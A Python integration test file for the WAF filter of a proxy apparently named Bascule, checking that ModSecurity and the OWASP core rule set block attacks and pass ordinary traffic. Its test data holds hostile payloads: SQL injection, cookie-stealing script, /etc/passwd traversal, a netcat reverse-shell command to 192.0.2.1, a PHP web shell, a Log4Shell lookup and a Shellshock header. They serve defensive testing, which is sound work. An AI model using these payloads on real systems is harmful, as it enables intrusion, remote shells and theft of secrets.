@@ -1,0 +1,561 @@
+# SPDX-License-Identifier: BSD-2-Clause
+"""The firewall (filter waf) refuses attacks and lets pass what is harmless, with Debian's OWASP
+core rule set and with rules of one's own. Skipped where libmodsecurity or the rules are missing."""
+
+import glob
+import json
+import os
+import shutil
+import subprocess
+import time
+
+from bascule_flow import (FACTOR, REVERSE, WAIT, Client, Daemon, Failure, Origin, Skip, answer,
+                          answer_chunked, ask, check, chunks, equal, get, head, main, once, post,
+                          test)
+from caching import FRONTS, test_fronts, unique
+from daemon import open_folder, program
+from h2 import h2c, request
+from peers import until
+
+CORE = "/usr/share/modsecurity-crs/rules"
+
+CONF = """
+workers = 1;
+forward_to_sites = false;
+access_logs = ( { name = "all"; to = "@DIR@/access.log"; format = "json"; },
+                { name = "waf"; to = "@DIR@/waf.log"; format = "json"; clients = "truncated"; } );
+listeners = (
+    { name = "web"; mode = "reverse"; listen = "127.0.0.1:0"; },
+    { name = "out"; mode = "forward"; listen = "127.0.0.1:0"; allow_destination = [ "127.0.0.0/8" ];
+      connect_ports = "1-65535"; filters = ( @CRS@ ); },
+    { name = "watched"; mode = "reverse"; listen = "127.0.0.1:0";
+      filters = ( { filter = "waf"; crs = true; mode = "detect"; audit = "waf";
+                    larger = "pass"; request_body = "1K"; encoded = "pass"; } ); }
+);
+groups = ( { name = "origin"; max_fails = 0; endpoints = ( { to = "127.0.0.1:@ORIGIN@"; } ); } );
+stores = ( { name = "main"; memory = "16M"; } );
+sites = (
+    { name = "all"; default = true; group = "origin"; filters = ( @CRS@ ); },
+    { name = "watched"; hosts = [ "watched.test" ]; group = "origin"; },
+    { name = "parts"; hosts = [ "parts.test" ]; group = "origin";
+      routes = (
+          { name = "strict"; path_prefix = "/strict/";
+            filters = ( { filter = "waf"; crs = true; paranoia = 4; inbound_threshold = 1;
+                          exclude = [ "920000-920999" ]; } ); },
+          { name = "sql"; path_prefix = "/sql/";
+            filters = ( { filter = "waf"; crs = true;
+                          exclude = [ "942000-942999", "949110" ]; } ); },
+          { name = "one"; path_prefix = "/one/";
+            filters = ( { filter = "waf"; crs = true; exclude = [ "942100" ]; } ); },
+          { name = "puts"; path_prefix = "/puts/";
+            filters = ( { filter = "waf"; crs = true; methods = [ "GET", "PUT" ]; } ); },
+          { name = "own"; path_prefix = "/own/"; cache = { store = "main"; };
+            filters = ( { filter = "waf"; rules = [ "@DIR@/own-*.conf" ]; tell_rule = true;
+                          response_body = "10K"; request_body = "1K"; @STATUS@ } ); },
+          { name = "first"; path_prefix = "/first/";
+            filters = ( { filter = "waf"; crs = true;
+                directives = [ "SecRule REQUEST_URI \\"@contains /first/free\\" \\\\",
+                    "\\"id:50,phase:1,pass,nolog,ctl:ruleRemoveById=942100\\"" ]; } ); },
+          { name = "plain"; path_prefix = "/plain/"; }
+      ); }
+);
+"""
+
+CRS = '{ filter = "waf"; crs = true; audit = "waf"; request_body = "64K"; @MORE@ }'
+
+OWN = """
+SecRuleEngine DetectionOnly
+SecAuditEngine On
+SecAuditLog @DIR@/never.log
+SecRule ARGS "@pmFromFile words.data" "id:100,phase:2,deny,log,msg:'A word'"
+SecRule ARGS:teapot "@streq yes" "id:101,phase:1,deny,status:418,log,msg:'Tea'"
+SecRule ARGS:away "@streq yes" "id:102,phase:1,redirect:http://else.test/x,log,msg:'Away'"
+SecRule ARGS:drop "@streq yes" "id:103,phase:1,drop,log,msg:'Drop'"
+SecRule ARGS:fine "@streq yes" "id:104,phase:1,allow:phase,nolog"
+SecRule REMOTE_ADDR "!@ipMatch 127.0.0.1" "id:105,phase:1,deny,log,msg:'Who'"
+SecRule RESPONSE_BODY "@contains secret-word" "id:110,phase:4,deny,log,msg:'Leak'"
+SecRule RESPONSE_HEADERS:X-Leak "@rx ." "id:111,phase:3,deny,status:502,log,msg:'Leak'"
+"""
+
+INJECTION = "1%27%20or%201%3D1%20union%20select%20password%20from%20users--%20-"
+ATTACKS = {
+    "SQL injection": f"?q={INJECTION}",
+    "cross-site scripting": "?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+    "path traversal": "?f=../../../../etc/passwd",
+    "encoded path traversal": "?f=%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "a command": "?c=%3Bcat%20/etc/passwd%7Cnc%20-e%20/bin/sh%20192.0.2.1%201",
+    "PHP code": "?p=%3C%3Fphp%20system(%24_GET%5Bx%5D)%3B%3F%3E",
+    "Log4Shell": "?x=%24%7Bjndi%3Aldap%3A//192.0.2.1/a%7D",
+}
+FIELDS = ["User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0",
+          "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+          "Accept-Language: en-US,en;q=0.5", "Accept-Encoding: gzip, deflate, br"]
+FORM = "Content-Type: application/x-www-form-urlencoded"
+JSON = "Content-Type: application/json"
+MULTIPART = "Content-Type: multipart/form-data; boundary=xyz"
+
+origin = once(Origin)
+
+
+def part(value, name="a", more=""):
+    return (f'--xyz\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n{value}\r\n'
+            "--xyz--\r\n").encode()
+
+
+def needs():
+    if not glob.glob(CORE + "/*.conf"):
+        raise Skip("the core rule set is not installed (Debian: modsecurity-crs)")
+    text = ('listeners = ( { name = "a"; mode = "reverse"; listen = "127.0.0.1:0"; filters = '
+            '( { filter = "waf"; directives = "SecAction id:1,phase:1,pass,nolog"; } ); } );'
+            'sites = ( { name = "s"; default = true; welcome = true; } );')
+    done = check_text(text)
+    if "built without libmodsecurity" in done.stderr:
+        raise Skip("this Bascule was built without libmodsecurity")
+
+
+def check_text(text):
+    """bascule check of a configuration."""
+    path = os.path.join(folder(), "check.conf")
+    with open(path, "w", encoding="ascii") as file:
+        file.write(text)
+    return subprocess.run([program(), "check", "-c", path], capture_output=True, text=True,
+                          timeout=WAIT, check=False)
+
+
+class Folder(str):
+    def close(self):
+        shutil.rmtree(self)
+
+
+@once
+def folder():
+    return Folder(open_folder("bascule-waf-"))
+
+
+def write(path, text):
+    """Replaces a file in one step."""
+    with open(path + ".new", "w", encoding="ascii") as file:
+        file.write(text)
+    os.rename(path + ".new", path)
+
+
+def start(crs=CRS, **values):
+    needs()
+    own = folder()
+    write(f"{own}/own-1.conf", OWN.replace("@DIR@", own))
+    write(f"{own}/words.data", "forbidden\nverboten\n")
+    conf = CONF.replace("@DIR@/own", f"{own}/own")
+    values = {"STATUS": "", "MORE": "", "ORIGIN": origin().port, **values}
+    daemon = Daemon(conf.replace("@CRS@", crs), **values)
+    daemon.conf_text = conf.replace("@CRS@", crs)
+    return daemon
+
+
+@once
+def proxy() -> Daemon:
+    return start()
+
+
+def fetch(front, path, *fields, **more):
+    return front.ask(proxy(), origin().port, path, *FIELDS, *fields, **more)
+
+
+def web(path, *fields, host="parts.test", at="web", daemon=None):
+    return ask((daemon or proxy()).address(at), get(path, *FIELDS, *fields, host=host))
+
+
+def counts(daemon=None):
+    found = (daemon or proxy()).metrics()
+    start_of = 'bascule_filter_events_total{filter="waf",event="'
+    return {name[len(start_of):-2]: value for name, value in found.items()
+            if name.startswith(start_of)}
+
+
+def audit(path, daemon=None):
+    """The audit line of a request for path."""
+    end = time.monotonic() + WAIT
+    while time.monotonic() < end:
+        for record in (daemon or proxy()).records("waf.log"):
+            if record.get("path") == path:
+                return record
+        time.sleep(0.02)  # a file does not say when it grows
+    raise Failure(f"waf.log has no line for {path}")
+
+
+# ---- attacks
+
+
+@test_fronts("attacks in the query are refused, and never reach the origin")
+def _(front):
+    for name, query in ATTACKS.items():
+        path = unique("query")
+        equal(fetch(front, path + query).status, 403, name)
+        equal(origin().seen(path + query), [], f"{name} at the origin")
+
+
+@test_fronts("attacks in forms, JSON and multipart content are refused")
+def _(front):
+    for kind, body in {FORM: f"a=1&q={INJECTION}".encode(),
+                       JSON: b'{"a": {"b": ["1\' or 1=1 union select x from users-- -"]}}',
+                       MULTIPART: part("<script>alert(1)</script>")}.items():
+        path = unique("content")
+        equal(fetch(front, path, kind, method="POST", body=body).status, 403, kind)
+        equal(origin().seen(path), [], f"{kind} at the origin")
+
+
+@test_fronts("attacks in cookies and other fields are refused, and so are scanners")
+def _(front):
+    for field in ("Cookie: a=1; b=<script>alert(1)</script>", "Referer: javascript:alert(1)",
+                  "X-Any: () { :; }; echo vulnerable"):
+        equal(fetch(front, unique("field"), field).status, 403, field)
+    path = unique("scanner")
+    response = front.ask(proxy(), origin().port, path, *FIELDS[1:], "User-Agent: sqlmap/1.5")
+    equal(response.status, 403, "sqlmap")
+
+
+@test("a file name that is an attack is refused")
+def _():
+    with Client(proxy().address("web")) as client:
+        client.send(post("/upload", part("x", "f", '; filename="../../x.php"'), *FIELDS,
+                         MULTIPART))
+        equal(client.read("POST").status, 403, "status")
+
+
+@test_fronts("what people do while browsing passes unchanged")
+def _(front):
+    for path in ("/", "/shop/items?id=42&sort=price&page=2", "/search?q=it%27s+a+nice+day",
+                 "/caf%C3%A9/men%C3%BC", "/a.js?v=1.2.3", "/mail?to=someone%40example.org"):
+        equal(fetch(front, path, "Cookie: sid=3fa98ab7; theme=dark").status, 200, path)
+    for kind, body in {FORM: b"name=Ann+Smith&city=K%C3%B6ln&comment=Thanks%2C+it+works%21",
+                       JSON: b'{"name": "Ann", "tags": ["a", "b"], "age": 40}',
+                       MULTIPART: part("x" * 20000, "f", '; filename="photo.jpg"')}.items():
+        path = unique("harmless")
+        equal(fetch(front, path, kind, method="POST", body=body).status, 200, kind)
+        equal(origin().wait_request(path).body, body, f"{kind} as it arrived")
+
+
+# ---- refusals and what is told of them
+
+
+@test("the page names no rule; the access log and the audit log do, without what was sent")
+def _():
+    response = web("/told" + ATTACKS["SQL injection"], "Accept: text/html", host="site.test")
+    equal(response.status, 403, "status")
+    check(b"942100" not in response.body and b"949110" not in response.body, "the page says why")
+    equal(proxy().wait_record("/told" + ATTACKS["SQL injection"])["rule"], "waf:949110", "rule")
+    line = audit("/told")
+    equal((line["event"], line["side"], line["rule"], line["status"], line["method"]),
+          ("blocked", "request", 949110, 403, "GET"), "audit")
+    equal(line["client"], "127.0.0.0", "client, as the log may tell it")
+    hit = next(hit for hit in line["hits"] if hit["rule"] == 942100)
+    equal((hit["where"], "SQL" in hit["message"]), ("ARGS:q", True), "hit")
+    check("union" not in json.dumps(line), "the audit log has what was sent")
+
+
+@test("a client cannot make the log name another rule")
+def _():
+    fake = "%22%5D%20%5Bline%20%221%22%5D%20%5Bid%20%2277%22%5D%20%5Brev%20%22%22%5D"
+    path = "/fake"
+    equal(web(f"{path}?q=%3Cscript%3Ealert(1)%3C/script%3E%20%5Bfile%20%22x{fake}",
+              host="site.test").status, 403, "status")
+    check(77 not in [hit["rule"] for hit in audit(path)["hits"]], "rule 77 was believed")
+
+
+@test("detect passes everything on, and tells what would have been refused")
+def _():
+    before = counts()
+    path = "/watched" + ATTACKS["path traversal"]
+    equal(web(path, host="watched.test", at="watched").status, 200, "status")
+    equal(len(origin().seen(path)), 1, "requests at the origin")
+    equal(audit("/watched")["event"], "detected", "event")
+    until(lambda: counts()["detected"] == before["detected"] + 1, "the count")
+    equal(proxy().wait_record(path).get("rule"), None, "rule of the access log")
+    words = proxy().command("explain", "--id", proxy().wait_record(path)["id"], status=None)
+    check("would be blocked by rule 949110" in words or words == "", words)
+
+
+@test("statuses and places of rules are kept: 418, a redirection, drop, allow")
+def _():
+    equal(web("/own/?teapot=yes").status, 418, "teapot")
+    response = web("/own/?away=yes")
+    equal((response.status, response.get("Location")), (302, "http://else.test/x"), "away")
+    equal(web("/own/?drop=yes").status, 403, "drop")
+    equal(web("/own/?fine=yes&a=forbidden").status, 403, "allow in phase 1 is for phase 1 on")
+
+
+@test("the option status is stronger, and tell_rule names the rule")
+def _():
+    response = web("/own/?a=forbidden", "Accept: text/html")
+    equal((response.status, b"waf:100" in response.body), (403, True), "page")
+    with start(STATUS="status = 451;") as daemon:
+        equal(web("/own/?a=verboten", daemon=daemon).status, 451, "status")
+        equal(web("/own/?away=yes", daemon=daemon).status, 302, "a redirection stays one")
+
+
+@test("the engine is on whatever rule files say, and the library writes no files")
+def _():
+    equal(web("/own/?a=forbidden").status, 403, "status")
+    check(not os.path.exists(folder() + "/never.log"), "an audit log of its own")
+
+
+# ---- options
+
+
+@test("filters of a route apply to it alone; exclusions by id and range count")
+def _():
+    attack = ATTACKS["SQL injection"]
+    equal(web("/plain/" + attack).status, 200, "no filter")
+    equal(web("/sql/" + attack).status, 200, "excluded by range")
+    equal(web("/sql/" + ATTACKS["path traversal"]).status, 200, "the rule that blocks is excluded")
+    equal(web("/one/?q=1%27%20or%201%3D1%20--%20-").status, 200, "excluded by id")
+    equal(web("/one/" + ATTACKS["path traversal"]).status, 403, "others count")
+
+
+@test("paranoia and thresholds are each filter's own")
+def _():
+    equal(web("/strict/?a=a--b--c").status, 403, "paranoia 4")
+    equal(web("/one/?a=a--b--c").status, 200, "paranoia 1")
+
+
+@test("methods may be allowed")
+def _():
+    for path, status in (("/puts/x", 200), ("/one/x", 403)):
+        with Client(proxy().address("web")) as client:
+            client.send(post(path, b"a=1", *FIELDS, FORM, host="parts.test", method="PUT"))
+            equal(client.read("PUT").status, status, path)
+
+
+@test("directives come before the core rule set and may switch its rules off")
+def _():
+    attack = "?q=1%27%20or%201%3D1%20--%20-"
+    equal(web("/first/free" + attack).status, 200, "switched off")
+    equal(web("/first/other" + attack).status, 403, "elsewhere")
+
+
+# ---- content
+
+
+@test("content that comes one byte at a time is judged as a whole and arrives as it was")
+def _():
+    good = head("POST /slow HTTP/1.1", "Host: site.test", *FIELDS, FORM,
+                "Transfer-Encoding: chunked") + chunks(b"a=1&", b"b=two", b"&c=three")
+    equal(ask(proxy().address("web"), good, "POST", bytewise=True).status, 200, "harmless")
+    equal(origin().wait_request("/slow").body, b"a=1&b=two&c=three", "content")
+    bad = head("POST /slow-bad HTTP/1.1", "Host: site.test", *FIELDS, FORM,
+               "Transfer-Encoding: chunked") + chunks(b"a=1&q=", INJECTION.encode())
+    equal(ask(proxy().address("web"), bad, "POST", bytewise=True).status, 403, "attack")
+    equal(origin().seen("/slow-bad"), [], "what reached the origin")
+
+
+@test("who waits for 100 is told to go on, and then judged")
+def _():
+    with Client(proxy().address("web")) as client:
+        client.send(head("POST /expect HTTP/1.1", "Host: site.test", *FIELDS, FORM,
+                         "Content-Length: 5", "Expect: 100-continue"))
+        equal(client.line("an interim response"), b"HTTP/1.1 100 Continue", "interim response")
+        equal(client.line("its end"), b"", "its end")
+        client.send(b"a=bcd")
+        equal(client.read("POST").status, 200, "status")
+    equal(origin().wait_request("/expect").body, b"a=bcd", "content")
+
+
+@test_fronts("content over the limit is refused with 413, of known length or not")
+def _(front):
+    for body in (b"a=" + b"x" * 65534, b"a=" + b"x" * 65535):
+        path = unique("long")
+        expected = 413 if len(body) > 65536 else 200
+        equal(fetch(front, path, FORM, method="POST", body=body).status, expected, len(body))
+        equal(len(origin().seen(path)), 1 if expected == 200 else 0, "at the origin")
+    if front.protocol == "HTTP/1.1" and front.way is REVERSE:
+        whole = head("POST /longer HTTP/1.1", "Host: site.test", *FIELDS, FORM,
+                     "Transfer-Encoding: chunked") + chunks(b"a=" + b"x" * 40000, b"y" * 40000)
+        equal(ask(proxy().address("web"), whole, "POST").status, 413, "chunked")
+        equal(origin().seen("/longer"), [], "whole requests at the origin")
+
+
+@test("longer or encoded content passes by option, unread, and the head is judged all the same")
+def _():
+    before = counts()
+    for fields, body in (((FORM,), b"a=" + b"x" * 5000),
+                         ((MULTIPART,), part("y" * 5000)),
+                         ((JSON, "Content-Encoding: gzip"), b"\x1f\x8b\x08\x00junk")):
+        path = unique("unread")
+        with Client(proxy().address("watched")) as client:
+            client.send(post(path, body, *FIELDS, *fields, host="watched.test"))
+            equal(client.read("POST").status, 200, "status")
+        equal(origin().wait_request(path).body, body, "content")
+        equal([r for r in proxy().records("waf.log") if r.get("path") == path], [], "audit lines")
+    until(lambda: counts()["unread"] == before["unread"] + 3, "the count")
+    with Client(proxy().address("watched")) as client:
+        client.send(post("/unread-q" + ATTACKS["path traversal"], b"a=" + b"x" * 5000, *FIELDS,
+                         FORM, host="watched.test"))
+        client.read("POST")
+    equal(audit("/unread-q")["event"], "detected", "event")
+
+
+@test("encoded content is refused with 415 unless an option says otherwise")
+def _():
+    with Client(proxy().address("web")) as client:
+        client.send(post("/encoded", b"\x1f\x8b\x08\x00junk", *FIELDS, FORM,
+                         "Content-Encoding: gzip"))
+        equal(client.read("POST").status, 415, "status")
+    equal(origin().seen("/encoded"), [], "what reached the origin")
+
+
+@test("content that is not what it says it is, or says two things, is refused")
+def _():
+    for kind, body in ((JSON, b'{"a": '), (JSON, b"[" * 300 + b"]" * 300),
+                       (MULTIPART, b"--xyz\r\nno field here\r\n"),
+                       (FORM, b"&".join(b"a%d=1" % i for i in range(1500)))):
+        with Client(proxy().address("web")) as client:
+            client.send(post("/strange", body, *FIELDS, kind))
+            equal(client.read("POST").status, 400, (kind, body[:20]))
+
+
+@test("a client that leaves, before its content is whole or while it is judged, leaves nothing")
+def _():
+    for cut in (head("POST /gone HTTP/1.1", "Host: site.test", *FIELDS, FORM,
+                     "Content-Length: 100") + b"a=1",
+                post("/gone-later", b"a=" + b"%3Cx%27" * 5000, *FIELDS, FORM)):
+        client = Client(proxy().address("web"))
+        client.send(cut)
+        client.reset()
+    with h2c(proxy().address("web")).greet() as stream:
+        for _ in range(10):
+            number = stream.open(request("/reset?q=" + INJECTION), end=True)
+            stream.reset_stream(number)
+    equal(web("/after", host="site.test").status, 200, "the next one")
+    equal(origin().seen("/gone"), [], "requests at the origin")
+
+
+@test("many at once are all judged, on one connection, too")
+def _():
+    with h2c(proxy().address("web")).greet() as stream:
+        numbers = [stream.open(request(f"/many-{i}" + (ATTACKS["a command"] if i % 2 else ""),
+                                       *[(n.lower(), v) for n, _, v in
+                                         (line.partition(": ") for line in FIELDS)]), end=True)
+                   for i in range(40)]
+        for i, number in enumerate(numbers):
+            equal(stream.answer(number).status, 403 if i % 2 else 200, i)
+
+
+# ---- responses
+
+
+@test("responses are judged by option: content, head, in chunks; what is stored was judged")
+def _():
+    origin().on("/own/leak", answer(b"<p>the secret-word</p>", "Content-Type: text/html"))
+    origin().on("/own/leak-2", answer_chunked(b"the secr", b"et-word",
+                                              fields=["Content-Type: text/plain; charset=x"]))
+    origin().on("/own/head", answer(b"x", "X-Leak: 1", "Content-Type: image/png"))
+    origin().on("/own/image", answer(b"secret-word", "Content-Type: image/png"))
+    origin().on("/own/long", answer(b"secret-word" + b"x" * 20000, "Content-Type: text/plain"))
+    origin().on("/own/fine", answer(b"fine" * 1000, "Content-Type: text/html",
+                                    "Cache-Control: max-age=60"))
+    equal([web(f"/own/{name}").status for name in ("leak", "leak-2", "head", "image", "long")],
+          [403, 403, 502, 200, 200], "statuses")
+    for _ in range(2):
+        equal(web("/own/fine").body, b"fine" * 1000, "content")
+    equal(len(origin().seen("/own/fine")), 1, "requests at the origin")
+    seen = origin().wait_request("/own/fine")
+    check(not seen.has("Accept-Encoding"), "the origin was asked for encoded content")
+    equal(len(web("/own/long").body), 20011, "length of what is too long to be judged")
+
+
+@test("answers to HEAD, and such without content, pass as they are")
+def _():
+    origin().on("/own/none", answer(b"", status="204 No Content"))
+    equal(web("/own/none").status, 204, "204")
+    response = ask(proxy().address("web"), get("/own/h", *FIELDS, host="parts.test",
+                                               method="HEAD"), "HEAD")
+    equal(response.status, 200, "HEAD")
+
+
+# ---- rule files
+
+
+@test("rules that cannot be read are refused by check, with file and line")
+def _():
+    needs()
+    own = folder()
+    for text, words in (("SecRuleEngine On\n\nBogus On\n", "bad.conf:3: "),
+                        ('SecRule ARGS "@rx a" "deny"\n', "bad.conf:1: Rules must have an ID"),
+                        ('SecRule ARGS "@pmFromFile none.data" "id:1,deny"\n', "bad.conf:1: "),
+                        ('SecRule ARGS "a" "id:1,deny"\n' * 2, "id: 1 is duplicated")):
+        write(f"{own}/bad.conf", text)
+        done = check_text(f"""
+            listeners = ( {{ name = "a"; mode = "reverse"; listen = "127.0.0.1:0"; }} );
+            sites = ( {{ name = "s"; default = true; welcome = true;
+                         filters = ( {{ filter = "waf"; rules = "{own}/bad.conf"; }} ); }} );""")
+        equal(done.returncode != 0, True, f"exit status with {text!r}")
+        check(words in done.stderr and "check.conf:4: " in done.stderr, done.stderr)
+
+
+@test("a reload reads files that have changed, and not those that have not")
+def _():
+    with start() as daemon:
+        own = folder()
+        equal(web("/own/?a=novel", daemon=daemon).status, 200, "before")
+        write(f"{own}/words.data", "novel\n")
+        daemon.reload(daemon.conf_text)
+        equal(web("/own/?a=novel", daemon=daemon).status, 403, "after")
+        write(f"{own}/own-2.conf", "Bogus On\n")
+        done = subprocess.run([program(), "reload", "--control", daemon.path("control")],
+                              capture_output=True, text=True, timeout=WAIT, check=False)
+        os.unlink(f"{own}/own-2.conf")
+        equal(done.returncode, 1, "exit status of a reload with bad rules")
+        equal(web("/own/?a=novel", daemon=daemon).status, 403, "the old rules go on")
+        read = [line for line in daemon.log_lines if "REQUEST-901" in line]
+        equal(len(read), 1, "times that the core rule set was read")
+
+
+def is_sanitized(daemon):
+    """Whether memory says little: freed memory is kept apart."""
+    with open(f"/proc/{daemon.children()[0]}/maps", encoding="utf-8") as file:
+        text = file.read()
+    return "libasan" in text or "libtsan" in text
+
+
+def resident_kb(daemon):
+    pid = daemon.children()[0]
+    with open(f"/proc/{pid}/status", encoding="ascii") as file:
+        return next(int(line.split()[1]) for line in file if line.startswith("VmRSS"))
+
+
+@test("reloads with changed rules lose nothing that is under way, and memory stays", timeout=60)
+def _():
+    with start() as daemon, Client(daemon.address("web")) as client:
+        count = 20 if FACTOR == 1 else 10
+        for i in range(count):
+            write(f"{folder()}/words.data", f"forbidden\nword-{i}\n")
+            client.send(head("POST /under-way HTTP/1.1", "Host: site.test", *FIELDS, FORM,
+                             "Content-Length: 5") + b"a=")
+            daemon.reload(daemon.conf_text)
+            client.send(b"bcd")
+            equal(client.read("POST").status, 200, f"status {i}")
+            if i == count // 3:
+                before = resident_kb(daemon)
+        grown = resident_kb(daemon) - before
+        check(is_sanitized(daemon) or grown < before * 0.1,
+              f"{grown} KiB more than the {before} KiB at first")
+
+
+@test("the core rule set read again and again does not pile up", timeout=60, heavy=True)
+def _():
+    needs()
+    copy = f"{folder()}/core"
+    shutil.copytree(CORE, copy)
+    with start(MORE=f'crs_path = "{copy}/*.conf";') as daemon:
+        for i in range(5):
+            os.utime(f"{copy}/REQUEST-901-INITIALIZATION.conf", ns=(i, i))
+            daemon.reload(daemon.conf_text)
+            equal(web("/x" + ATTACKS["path traversal"], host="site.test", daemon=daemon).status,
+                  403, "status")
+            if i == 2:
+                before = resident_kb(daemon)
+        grown = resident_kb(daemon) - before
+        check(is_sanitized(daemon) or grown < before * 0.15,
+              f"{grown} KiB more than the {before} KiB at first")
+
+
+main()
